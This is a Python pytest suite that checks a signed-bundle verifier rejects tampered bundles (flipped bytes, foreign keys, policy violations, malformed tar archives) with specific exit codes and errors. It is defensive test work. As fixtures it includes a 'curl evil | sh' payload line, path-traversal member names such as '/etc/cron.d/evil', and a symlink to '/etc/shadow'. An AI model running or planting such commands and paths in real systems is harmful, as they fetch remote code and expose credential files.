"""The tamper matrix: every way a signed bundle can be altered gives its exit code and its error line.

payload byte -> 1; signature byte -> 2; key outside the trust -> 3; each policy rule -> 4;
truncated, not a tar, duplicate member, path outside the bundle, unknown format version -> 10.
"""

from __future__ import annotations

import base64
import hashlib
import io
import json
import os
import tarfile

import pytest
from test_bundle_support import Coop, ct, cheap_env, make_oci, make_payload_dir, members, modes, \
    pack_unsigned, write_members

from cerro_torre.ceremony import bundle as B


@pytest.fixture(autouse=True)
def env(monkeypatch):
    cheap_env(monkeypatch)


@pytest.fixture(scope="module")
def world(tmp_path_factory):
    """A CT-SIG-02 2-of-3 cooperative, a signed bundle, and a policy pinning the cooperative."""
    tmp = tmp_path_factory.mktemp("tamper")
    coop = Coop(name="coop", n=3, k=2)
    coop.self_signed()
    unsigned = str(tmp / "u.ctp")
    pack_unsigned(make_payload_dir(str(tmp / "p")), unsigned)
    signed = str(tmp / "good.ctp")
    coop.sign_bundle(unsigned, signed, [coop.record])
    policy = str(tmp / "policy.json")
    assert ct("policy", "init", "--policy", policy, "--root", coop.record.fingerprint.full_hex)[0] == 0
    return {"coop": coop, "signed": signed, "policy": policy, "tmp": tmp, "members": members(signed),
            "modes": modes(signed)}


_HOMES = iter(range(1 << 30))


def verify(path: str, policy: str) -> tuple[int, list[str]]:
    # a fresh verifier home each time: a home remembers the epochs it verified
    home = os.path.join(os.path.dirname(policy), f"verifier-{next(_HOMES)}")
    code, _, err = ct("--home", home, "verify", path, "--policy", policy)
    return code, err.splitlines()


MODES: dict[str, int] = {}


def rebuild(tmp, items: dict[str, bytes], name: str = "t.ctp") -> str:
    """The bundle again with these members (modes as in the signed bundle)."""
    path = str(tmp / name)
    write_members(path, list(items.items()), mode_of=MODES)
    return path


@pytest.fixture(autouse=True)
def _modes(world):
    MODES.clear()
    MODES.update(world["modes"])


def test_the_untouched_bundle_is_valid(world, tmp_path):
    assert verify(world["signed"], world["policy"]) == (0, [])
    # and rebuilding it from its members gives the same bytes (so the cases below change only what they say)
    path = rebuild(tmp_path, world["members"])
    assert open(path, "rb").read() == open(world["signed"], "rb").read()


# ------------------------------------------------------------------ 1: any payload byte

def test_every_payload_byte(world, tmp_path):
    checked = 0
    for name, data in world["members"].items():
        if not name.startswith("payload/"):
            continue
        signed_hex = hashlib.sha256(data).hexdigest()
        for i in range(len(data)):
            items = dict(world["members"])
            changed = bytearray(data)
            changed[i] ^= 0x01
            items[name] = bytes(changed)
            code, lines = verify(rebuild(tmp_path, items), world["policy"])
            got_hex = hashlib.sha256(changed).hexdigest()
            assert code == 1, (name, i)
            assert lines == [f"error: t.ctp: {name} sha256 {got_hex[:16]}… differs from the signed {signed_hex[:16]}…",
                             "hint: the file was changed after signing; do not use it, get a clean copy of the bundle"]
            checked += 1
    assert checked == 14 + 18  # README and sub/tool.sh, every byte


def test_payload_byte_patched_in_place(world, tmp_path):
    """Same, without rebuilding: flip one byte inside the original tar file."""
    raw = bytearray(open(world["signed"], "rb").read())
    at = raw.index(b"hello release\n")
    raw[at] ^= 0x20
    path = tmp_path / "inplace.ctp"
    path.write_bytes(bytes(raw))
    code, lines = verify(str(path), world["policy"])
    assert code == 1 and lines[0].startswith("error: inplace.ctp: payload/README sha256 ")


def test_added_and_removed_payload_files(world, tmp_path):
    items = dict(world["members"])
    items["payload/extra.sh"] = b"curl evil | sh\n"
    code, lines = verify(rebuild(tmp_path, items), world["policy"])
    assert (code, lines[0]) == (1, "error: t.ctp: payload/extra.sh is in the bundle but not in the signed statement")
    items = dict(world["members"])
    del items["payload/README"]
    code, lines = verify(rebuild(tmp_path, items), world["policy"])
    assert (code, lines[0]) == (1, "error: t.ctp: payload/README is signed but missing from the bundle")


def test_manifest_edit_that_stays_canonical(world, tmp_path):
    items = dict(world["members"])
    items["manifest.toml"] = items["manifest.toml"].replace(b'version = "1.0"', b'version = "1.1"')
    code, lines = verify(rebuild(tmp_path, items), world["policy"])
    got = hashlib.sha256(items["manifest.toml"]).hexdigest()
    want = hashlib.sha256(world["members"]["manifest.toml"]).hexdigest()
    assert code == 1
    assert lines[0] == f"error: t.ctp: manifest.toml sha256 {got[:16]}… differs from the signed {want[:16]}…"


# ------------------------------------------------------------------ 2: any signature byte

def _flip_sig(items: dict[str, bytes], alg: str, which: int, byte: int) -> dict[str, bytes]:
    env = json.loads(items["signatures/release.dsse.json"])
    sigs = [s for s in env["signatures"] if s["alg"] == alg]
    raw = bytearray(base64.b64decode(sigs[which]["sig"]))
    raw[byte] ^= 0x01
    sigs[which]["sig"] = base64.b64encode(bytes(raw)).decode()
    out = dict(items)
    out["signatures/release.dsse.json"] = json.dumps(env, sort_keys=True, separators=(",", ":")).encode() + b"\n"
    return out


def test_every_byte_of_the_group_signature(world, tmp_path):
    rec = world["coop"].record
    for byte in range(64):
        code, lines = verify(rebuild(tmp_path, _flip_sig(world["members"], "ed25519", 0, byte)), world["policy"])
        assert code == 2, byte
        assert lines == [f"error: t.ctp: release signatures by {rec.describe()}: ed25519 0 of 1 "
                         f"(invalid: group of coop epoch 1)",
                         "hint: a signature does not match the statement: the bundle was altered after signing, "
                         "or it was signed incompletely"]


@pytest.mark.parametrize("byte", [0, 1, 31, 32, 640, 2000, 4000, 4626])
@pytest.mark.parametrize("which", [0, 1])
def test_ml_dsa_signature_bytes(world, tmp_path, which, byte):
    env = json.loads(world["members"]["signatures/release.dsse.json"])
    keyid = [s for s in env["signatures"] if s["alg"] == "ml-dsa-87"][which]["keyid"]
    member = world["coop"].record.member_by_keyid()[keyid]
    code, lines = verify(rebuild(tmp_path, _flip_sig(world["members"], "ml-dsa-87", which, byte)), world["policy"])
    assert code == 2
    assert lines[0] == (f"error: t.ctp: release signatures by {world['coop'].record.describe()}: "
                        f"ml-dsa-87 1 of 2 (invalid: {member})")


@pytest.mark.parametrize("name", ["signify", "minisign", "minisign-global", "ssh"])
def test_stock_signature_bytes(world, tmp_path, name):
    stock = json.loads(world["members"]["signatures/stock.json"])
    raw = bytearray(base64.b64decode(stock["signatures"][name]))
    raw[17] ^= 0x80
    stock["signatures"][name] = base64.b64encode(bytes(raw)).decode()
    items = dict(world["members"])
    items["signatures/stock.json"] = json.dumps(stock, sort_keys=True, separators=(",", ":")).encode() + b"\n"
    code, lines = verify(rebuild(tmp_path, items), world["policy"])
    assert code == 2
    # the global signature signs the minisign signature: changing that one breaks both
    failing = "minisign, minisign-global" if name == "minisign" else name
    assert lines[0] == (f"error: t.ctp: stock-tool signature(s) {failing} in signatures/stock.json do not verify "
                        f"(key {world['coop'].record.group_keyid})")


def test_signed_statement_changed(world, tmp_path):
    """Editing the statement (e.g. to match a swapped file) breaks every signature over it."""
    items = dict(world["members"])
    env = json.loads(items["signatures/release.dsse.json"])
    st = json.loads(base64.b64decode(env["payload"]))
    st["predicate"]["package"]["version"] = "6.6.6"
    env["payload"] = base64.b64encode(json.dumps(st, sort_keys=True, separators=(",", ":")).encode()).decode()
    items["signatures/release.dsse.json"] = json.dumps(env, sort_keys=True, separators=(",", ":")).encode() + b"\n"
    code, lines = verify(rebuild(tmp_path, items), world["policy"])
    assert code == 2
    assert lines[0].endswith(": ed25519 0 of 1 (invalid: group of coop epoch 1); ml-dsa-87 0 of 2 (invalid: m1, m2)"), lines[0]


def test_keyholder_record_signature_byte(world, tmp_path):
    items = dict(world["members"])
    name = "signatures/keyholders/0000000000000001.json"
    rec = json.loads(items[name])
    i = next(i for i, s in enumerate(rec["signatures"]) if s["alg"] == "ed25519")
    raw = bytearray(base64.b64decode(rec["signatures"][i]["sig"]))
    raw[5] ^= 1
    rec["signatures"][i]["sig"] = base64.b64encode(bytes(raw)).decode()
    items[name] = json.dumps(rec, sort_keys=True, separators=(",", ":")).encode() + b"\n"
    code, lines = verify(rebuild(tmp_path, items), world["policy"])
    assert code == 2
    assert lines[0] == (f"error: {world['coop'].record.describe()} is not signed by its own threshold: "
                        "ed25519 0 of 1 (invalid: group of coop epoch 1)")


# ------------------------------------------------------------------ 3: a key outside the trust

def test_set_outside_the_trust(world, tmp_path):
    other = Coop(name="coop", prefix="evil")   # same name, different keys
    other.self_signed()
    out = str(tmp_path / "evil.ctp")
    other.sign_bundle(world["signed"], out, [other.record])
    code, lines = verify(out, world["policy"])
    assert code == 3
    assert lines[0] == (f"error: {other.record.describe()} does not chain to a pinned root (chain starts at "
                        f"epoch 1, fingerprint {other.record.fingerprint.hex})")


def test_signatures_by_keys_outside_the_pinned_set(world, tmp_path):
    """The real chain, but the release signed by another set's keys."""
    other = Coop(name="coop", prefix="evil")
    msgs = B.release_messages(world["signed"])
    items = dict(world["members"])
    env = json.loads(items["signatures/release.dsse.json"])
    env["signatures"] = sorted((s.to_json() for s in other.sign(msgs["dsse"])),
                               key=lambda s: (s["alg"], s["keyid"], s["sig"]))
    items["signatures/release.dsse.json"] = json.dumps(env, sort_keys=True, separators=(",", ":")).encode() + b"\n"
    del items["signatures/stock.json"]
    code, lines = verify(rebuild(tmp_path, items), world["policy"])
    assert code == 3
    assert lines[0].startswith(f"error: t.ctp: release signatures by {world['coop'].record.describe()}: "
                               "ed25519 0 of 1 (keys not in the set: ")
    assert lines[1] == ("hint: the signatures are by keys the signer does not hold; the bundle was re-signed "
                        "by someone else")


def test_stock_record_by_another_key(world, tmp_path):
    from cerro_torre.ceremony.stockformats import sign_record
    from cerro_torre.suites import ed25519

    seed = ed25519.generate_seed()
    env = json.loads(world["members"]["signatures/release.dsse.json"])
    st = base64.b64decode(env["payload"])
    rec = sign_record(st, "x", ed25519.public_from_seed(seed), lambda m: ed25519.sign(seed, m))
    items = dict(world["members"])
    items["signatures/stock.json"] = rec.to_bytes()
    code, lines = verify(rebuild(tmp_path, items), world["policy"])
    assert code == 3
    assert lines[0] == (f"error: t.ctp: signatures/stock.json is signed by key {rec.keyid}, not by the "
                        "release's Ed25519 key")


# ------------------------------------------------------------------ 4: each policy rule

def _policy(world, tmp_path, **fields) -> str:
    path = str(tmp_path / "strict.json")
    doc = {"type": "ct-policy", "version": 1, "roots": [world["coop"].record.fingerprint.full_hex], **fields}
    with open(path, "w") as f:
        json.dump(doc, f)
    return path


@pytest.mark.parametrize("fields,line,hint", [
    ({"suites": ["CT-SIG-03"]},
     "suite CT-SIG-02 is not allowed by policy {p} (allowed: CT-SIG-03)",
     "get a release signed with an allowed suite, or if this is acceptable, change {p} (\"suites\")"),
    ({"signers": ["release-*", "ops"]},
     "signer 'coop' is not allowed by policy {p} (allowed: ops, release-*)",
     "if you trust this signer, run 'ct policy add-signer coop' --policy {p}"),
    ({"registries": ["docker.io/library/*"]},
     "the bundle names no registry (source kind directory) and policy {p} allows only: docker.io/library/*",
     "pack the image from its registry (or an archive that records its name), or if this is acceptable, "
     "change {p} (\"registries\")"),
    ({"min_epoch": 2},
     "keyholder set epoch 1 is below the minimum epoch 2 of policy {p}",
     "this release was signed before a rotation you require; get one signed by the current set"),
    ({"min_threshold": 3},
     "threshold 2 is below the minimum threshold 3 of policy {p}",
     "get a release signed by a keyholder set with a higher threshold, or if this is acceptable, "
     "change {p} (\"min_threshold\")"),
], ids=["suites", "signers", "registries", "min_epoch", "min_threshold"])
def test_each_policy_rule(world, tmp_path, fields, line, hint):
    p = _policy(world, tmp_path, **fields)
    code, lines = verify(world["signed"], p)
    assert code == 4
    assert lines == ["error: " + line.format(p=p), "hint: " + hint.format(p=p)]


def test_registry_glob_against_an_image_bundle(world, tmp_path):
    make_oci(str(tmp_path / "img"), image_name="quay.io/acme/web:2")
    u = str(tmp_path / "img.ctp")
    pack_unsigned(f"oci:{tmp_path / 'img'}:1.0", u)
    s = str(tmp_path / "img-signed.ctp")
    world["coop"].sign_bundle(u, s, [world["coop"].record])
    p = _policy(world, tmp_path, registries=["docker.io/*"])
    code, lines = verify(s, p)
    assert code == 4
    assert lines[0] == f"error: registry 'quay.io/acme/web' is not allowed by policy {p} (allowed: docker.io/*)"
    p = _policy(world, tmp_path, registries=["quay.io/acme/*"])
    assert verify(s, p) == (0, [])


# ------------------------------------------------------------------ 10: malformed bundles

@pytest.mark.parametrize("cut,line", [
    (0, "error: t.ctp is empty"),
    (100, "error: t.ctp is not a tar archive"),
    (600, "error: t.ctp is truncated (member 'manifest.toml' is cut short)"),
    (-1024 - 700, "error: t.ctp is truncated (member 'signatures/stock.json' is cut short)"),
    (-300, "error: t.ctp is truncated (end-of-archive marker cut short)"),
    (-1024, "error: t.ctp is truncated (no end-of-archive marker)"),
])
def test_truncated(world, tmp_path, cut, line):
    raw = open(world["signed"], "rb").read()
    (tmp_path / "t.ctp").write_bytes(raw[:cut] if cut > 0 else raw[:len(raw) + cut] if cut else b"")
    code, lines = verify(str(tmp_path / "t.ctp"), world["policy"])
    assert code == 10
    assert lines[0] == line


def test_truncated_at_every_block_boundary(world, tmp_path):
    raw = open(world["signed"], "rb").read()
    for cut in range(512, len(raw), 512):
        (tmp_path / "t.ctp").write_bytes(raw[:cut])
        code, lines = verify(str(tmp_path / "t.ctp"), world["policy"])
        assert code == 10, cut
        assert lines[0].startswith("error: t.ctp is truncated"), (cut, lines)


@pytest.mark.parametrize("content,line", [
    (b"\x1f\x8b\x08\x00" + bytes(600), "error: t.ctp is not a tar archive"),
    (b'{"payload": "x"}' + b" " * 600, "error: t.ctp is not a tar archive"),
    (os.urandom(4096), "error: t.ctp is not a tar archive"),
])
def test_not_a_tar(world, tmp_path, content, line):
    (tmp_path / "t.ctp").write_bytes(content)
    code, lines = verify(str(tmp_path / "t.ctp"), world["policy"])
    assert (code, lines) == (10, [line, "hint: is this a .ctp bundle?"])


def test_a_plain_tar_that_is_not_a_bundle(world, tmp_path):
    buf = io.BytesIO()
    with tarfile.open(fileobj=buf, mode="w", format=tarfile.USTAR_FORMAT) as t:
        ti = tarfile.TarInfo("README")
        ti.size = 2
        t.addfile(ti, io.BytesIO(b"hi"))
    (tmp_path / "t.ctp").write_bytes(buf.getvalue())
    code, lines = verify(str(tmp_path / "t.ctp"), world["policy"])
    assert (code, lines[0]) == (10, "error: t.ctp: first member is 'README', not manifest.toml")


def test_duplicate_member(world, tmp_path):
    items = list(world["members"].items())
    i = [n for n, _ in items].index("payload/README")
    items.insert(i + 1, items[i])
    path = str(tmp_path / "t.ctp")
    write_members(path, items, sort=False)
    code, lines = verify(path, world["policy"])
    assert code == 10
    assert lines == ["error: t.ctp: duplicate member 'payload/README'",
                     "hint: a bundle names each file once; this one was tampered with or badly made"]


@pytest.mark.parametrize("name", ["../evil", "/etc/cron.d/evil", "payload/../../evil", "payload/./x", "payload//x"])
def test_path_outside_the_bundle(world, tmp_path, name):
    items = list(world["members"].items()) + [(name, b"x")]
    path = str(tmp_path / "t.ctp")
    write_members(path, items)
    code, lines = verify(path, world["policy"])
    assert code == 10
    if name.startswith("/"):
        assert lines[0] == f"error: t.ctp: member {name!r} is absolute"
    else:
        assert lines[0] == f"error: t.ctp: member {name!r} leaves the bundle or is not normalized"


def test_unknown_format_version(world, tmp_path):
    items = dict(world["members"])
    items["manifest.toml"] = items["manifest.toml"].replace(b"format_version = 1", b"format_version = 2")
    code, lines = verify(rebuild(tmp_path, items), world["policy"])
    assert (code, lines) == (10, [
        "error: unsupported bundle format version 2 in t.ctp: manifest.toml",
        "hint: this ct reads format version 1; upgrade ct to read newer bundles"])


def test_links_directories_and_out_of_order_members(world, tmp_path):
    def tar_with(extra: tarfile.TarInfo) -> bytes:
        buf = io.BytesIO()
        with tarfile.open(fileobj=buf, mode="w", format=tarfile.USTAR_FORMAT) as t:
            ti = tarfile.TarInfo("manifest.toml")
            data = world["members"]["manifest.toml"]
            ti.size = len(data)
            t.addfile(ti, io.BytesIO(data))
            t.addfile(extra)
        return buf.getvalue()

    link = tarfile.TarInfo("payload/link")
    link.type, link.linkname = tarfile.SYMTYPE, "/etc/shadow"
    (tmp_path / "t.ctp").write_bytes(tar_with(link))
    assert verify(str(tmp_path / "t.ctp"), world["policy"]) == (10, [
        "error: t.ctp: member 'payload/link' is a symbolic link", "hint: bundles hold regular files only"])
    d = tarfile.TarInfo("payload/dir")
    d.type = tarfile.DIRTYPE
    (tmp_path / "t.ctp").write_bytes(tar_with(d))
    assert verify(str(tmp_path / "t.ctp"), world["policy"])[1][0] == "error: t.ctp: member 'payload/dir/' is a directory"
    items = list(world["members"].items())
    items.reverse()
    path = str(tmp_path / "t.ctp")
    write_members(path, [items[-1]] + items[:-1], sort=False)   # manifest first, the rest reversed
    code, lines = verify(path, world["policy"])
    assert code == 10 and lines[0].endswith("is out of order")


def test_trailing_data_and_unknown_members(world, tmp_path):
    raw = open(world["signed"], "rb").read()
    (tmp_path / "t.ctp").write_bytes(raw + b"#!/bin/sh\n")
    assert verify(str(tmp_path / "t.ctp"), world["policy"]) == (10, [
        "error: t.ctp has data after the end of the archive",
        "hint: something was appended to the bundle; get a clean copy"])
    (tmp_path / "t.ctp").write_bytes(raw + bytes(10240))   # zero padding (tar blocking) is fine
    assert verify(str(tmp_path / "t.ctp"), world["policy"]) == (0, [])
    items = dict(world["members"])
    items["zzz.txt"] = b"x"
    code, lines = verify(rebuild(tmp_path, items), world["policy"])
    assert (code, lines[0]) == (10, "error: t.ctp: unexpected member 'zzz.txt'")
    items = dict(world["members"])
    items["signatures/notes.txt"] = b"x"
    code, lines = verify(rebuild(tmp_path, items), world["policy"])
    assert (code, lines[0]) == (10, "error: t.ctp: unknown member 'signatures/notes.txt'")
    items = dict(world["members"])
    del items["signatures/release.dsse.json"]
    code, lines = verify(rebuild(tmp_path, items), world["policy"])
    assert (code, lines[0]) == (10, "error: t.ctp has no signatures/release.dsse.json")


def test_corrupt_header_checksum(world, tmp_path):
    raw = bytearray(open(world["signed"], "rb").read())
    at = raw.index(b"payload/README")
    raw[at + 100] ^= 0x01   # inside the mode field of that header
    (tmp_path / "t.ctp").write_bytes(bytes(raw))
    code, lines = verify(str(tmp_path / "t.ctp"), world["policy"])
    assert code == 10
    assert lines == [f"error: t.ctp: corrupt tar header at byte {at}", "hint: the bundle is damaged; get a clean copy"]


def test_structure_errors_always_carry_a_hint(world, tmp_path):
    items = dict(world["members"])
    items["manifest.toml"] = items["manifest.toml"].replace(b'version = "1.0"\n', b"")
    code, lines = verify(rebuild(tmp_path, items), world["policy"])
    assert (code, lines) == (10, ["error: t.ctp: manifest.toml: [package] must have a name and a version",
                                  "hint: the bundle is damaged or was not made by ct; get a clean copy"])
